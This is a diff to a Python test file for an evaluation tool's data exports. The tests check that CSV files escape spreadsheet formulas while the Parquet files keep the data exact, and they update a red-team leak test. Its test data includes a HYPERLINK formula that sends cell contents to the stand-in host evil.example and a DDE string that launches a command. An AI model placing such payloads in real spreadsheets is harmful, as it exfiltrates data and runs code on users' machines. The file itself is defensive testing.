@@ -12,9 +12,6 @@ from report_support import conversation, merge
 from convoeval.frames import RunFrames, from_parquet
 from convoeval.frames.spreadsheet import FORMULA_STARTS, restore_cell, safe_cell, safe_frame
 from convoeval.pipeline.execute import save_outputs
-from convoeval.redteam.detector import Leak
-from convoeval.redteam.metrics import read_cases, read_leaks, write_results
-from convoeval.redteam.run import AttackResult, AttackTurn
 from convoeval.report.index import CombinationRow, write_index
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -46,17 +43,21 @@ def test_a_runs_csv_files_carry_no_formula_while_the_parquet_keeps_the_text(tmp_
     assert parquet["text"].tolist()[:2] == ["=cmd|' /C calc'!A0", ATTACK]  # the data itself is exact
 
 
-def test_the_red_teams_csv_files_are_safe_and_read_back_exactly(tmp_path):
-    result = AttackResult(case="injection/billing/en", attack="injection", strategy="injection", agent="billing",
-                          locale="en", form="scripted", target_agent="clinic:billing", legitimate=False,
-                          target="op-conceicao", status="leak",
-                          leaks=[Leak(1, "cpf", "op-conceicao", "message", "-123.456.789-00", "injection")],
-                          turns=[AttackTurn(1, ATTACK, "-123.456.789-00", [])], error="@boom")
-    write_results([result], tmp_path)
-    raw = (tmp_path / "leaks.csv").read_text(encoding="utf-8")
-    assert raw.rstrip().endswith(",'-123.456.789-00") and "'@boom" in (tmp_path / "cases.csv").read_text(encoding="utf-8")
-    assert read_leaks(tmp_path)["quote"].tolist() == ["-123.456.789-00"]
-    assert read_cases(tmp_path)["error"].tolist() == ["@boom"]
+def test_the_red_teams_csv_files_are_safe_and_its_data_exact(tmp_path):
+    # A red-team folder is a run's (its attacks and leaks frames): the same CSV safety, the Parquet exact.
+    keys = {"run_id": "r1", "case": "injection/billing/en", "strategy": "injection", "agent": "billing",
+            "locale": "en", "target_agent": "clinic:billing"}
+    rows = {"attacks": [{**keys, "attack": "injection", "form": "scripted", "legitimate": False,
+                         "target": "op-conceicao", "status": "leak", "leaked": True, "n_leaks": 1,
+                         "leak_kinds": "cpf", "error": "@boom"}],
+            "leaks": [{**keys, "turn": 1, "kind": "cpf", "patient": "op-conceicao", "source": "message",
+                       "quote": "-123.456.789-00"}]}
+    save_outputs(RunFrames.from_rows(rows), tmp_path, {})
+    data = tmp_path / "data"
+    raw = (data / "leaks.csv").read_text(encoding="utf-8")
+    assert raw.rstrip().endswith(",'-123.456.789-00") and "'@boom" in (data / "attacks.csv").read_text(encoding="utf-8")
+    assert from_parquet(data / "leaks.parquet")["quote"].tolist() == ["-123.456.789-00"]
+    assert from_parquet(data / "attacks.parquet")["error"].tolist() == ["@boom"]
 
 
 def test_a_sweeps_csv_files_are_safe(tmp_path):
